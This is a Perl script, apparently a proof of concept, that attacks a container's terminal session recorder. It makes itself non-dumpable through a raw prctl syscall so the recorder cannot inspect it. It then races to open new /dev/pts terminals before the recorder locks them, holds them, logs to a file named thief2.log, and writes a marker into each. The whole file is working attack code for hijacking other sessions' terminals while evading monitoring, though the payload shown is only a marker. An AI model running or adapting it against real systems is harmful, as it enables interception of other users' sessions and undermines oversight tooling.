#!/usr/bin/perl
# Non-dumpable (the recorder, running as the same user, then cannot list its descriptors), it
# opens every new terminal of the container as soon as it appears, before the recorder makes it
# exclusive, and later writes a marker to each.
use strict;
use warnings;
use Fcntl qw(O_RDWR O_NOCTTY O_NONBLOCK);
syscall(157, 4, 0, 0, 0, 0) == 0 or die "prctl: $!";
open(my $log, '>>', '/tmp/thief2.log') or die;
select((select($log), $| = 1)[0]);
my %seen;
{ opendir(my $d, '/dev/pts') or die; $seen{$_} = 1 for grep { /^\d+$/ } readdir $d; }
print $log "ptys before: ", join(' ', sort keys %seen), "\n";
my @held;
my $deadline = time + 60;
while (time < $deadline && @held < 2) {
  opendir(my $d, '/dev/pts') or die;
  for my $n (grep { /^\d+$/ && !$seen{$_} } readdir $d) {
    if (sysopen(my $fh, "/dev/pts/$n", O_RDWR | O_NOCTTY | O_NONBLOCK)) {
      $seen{$n} = 1;
      push @held, [$n, $fh];
      print $log "opened /dev/pts/$n\n";
    } else {
      print $log "open /dev/pts/$n: $!\n";
      $seen{$n} = 1 if $!{EBUSY};
    }
  }
  select(undef, undef, undef, 0.001);
}
sleep 3;
for (@held) {
  my ($n, $fh) = @$_;
  my $w = syswrite($fh, "\r\nHELD-PTS-$n-" . (6 * 7) . "\r\n");
  print $log "wrote to /dev/pts/$n: ", ($w // "error $!"), "\n";
}
